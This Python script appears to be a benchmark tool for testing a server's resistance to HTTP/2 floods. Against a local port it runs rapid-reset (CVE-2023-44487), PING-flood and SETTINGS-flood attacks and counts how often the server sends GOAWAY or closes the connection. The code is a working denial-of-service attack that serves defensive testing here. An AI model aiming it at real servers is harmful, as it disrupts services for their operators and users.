"""A sustained HTTP/2 attacker for scripts/bench-floods: keeps attacking for SECONDS, opening a new
TLS connection whenever the server ends the current one.

    python3 h2-attacker.py rapid-reset|ping|settings PORT SECONDS

rapid-reset  opens a stream (GET, headers only) and resets it at once, again and again (CVE-2023-44487)
ping         sends PING frames in batches of 100 and never reads the answers
settings     the same with SETTINGS frames

Prints one line at the end: connections opened, how many the server ended with GOAWAY (and the
error codes seen), how many it just closed, and the frames sent.
"""
import collections
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
deadline = time.monotonic() + seconds
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
headers = [(":method", "GET"), (":path", "/2b"), (":scheme", "https"), (":authority", "localhost")]
connections, closed, frames = 0, 0, 0
goaways = collections.Counter()


def ended(sock, connection):
    """GOAWAY error code, "closed", or None when the server has not ended the connection."""
    sock.settimeout(0)
    try:
        data = sock.recv(1 << 20)
    except (BlockingIOError, ssl.SSLWantReadError):
        return None
    except (ssl.SSLError, OSError):
        return "closed"
    if not data:
        return "closed"
    try:
        events = connection.receive_data(data)
    except h2.exceptions.ProtocolError:
        return "closed"
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            return event.error_code
    return None


def attack_one_connection():
    global frames
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock = context.wrap_socket(raw, server_hostname="localhost")
    connection = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    stream = 1
    try:
        while time.monotonic() < deadline:
            for _ in range(20 if kind == "rapid-reset" else 100):
                if kind == "rapid-reset":
                    connection.send_headers(stream, headers, end_stream=True)
                    connection.reset_stream(stream)
                    stream += 2
                elif kind == "ping":
                    connection.ping(frames.to_bytes(8, "big"))
                else:
                    connection.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + frames % 2})
                frames += 1
            sock.settimeout(5)
            sock.sendall(connection.data_to_send())
            if kind == "rapid-reset":
                outcome = ended(sock, connection)
                if outcome is not None:
                    return outcome
        return None
    except (ssl.SSLError, OSError, h2.exceptions.ProtocolError):
        return ended_after_error(sock, connection)
    finally:
        sock.close()


def ended_after_error(sock, connection):
    """After a failed send: read what the server said last (a flood's answers are never read)."""
    try:
        sock.settimeout(1)
        while True:
            data = sock.recv(1 << 20)
            if not data:
                return "closed"
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    return event.error_code
    except Exception:
        return "closed"


while time.monotonic() < deadline:
    try:
        outcome = attack_one_connection()
    except OSError:
        outcome = "closed"
        time.sleep(0.01)
    connections += 1
    if outcome == "closed":
        closed += 1
    elif outcome is not None:
        goaways[int(outcome)] += 1
codes = ", ".join(f"{count} × 0x{code:x}" for code, count in sorted(goaways.items())) or "none"
print(f"{connections} connections, GOAWAY {sum(goaways.values())} ({codes}), closed {closed}, {frames} frames")
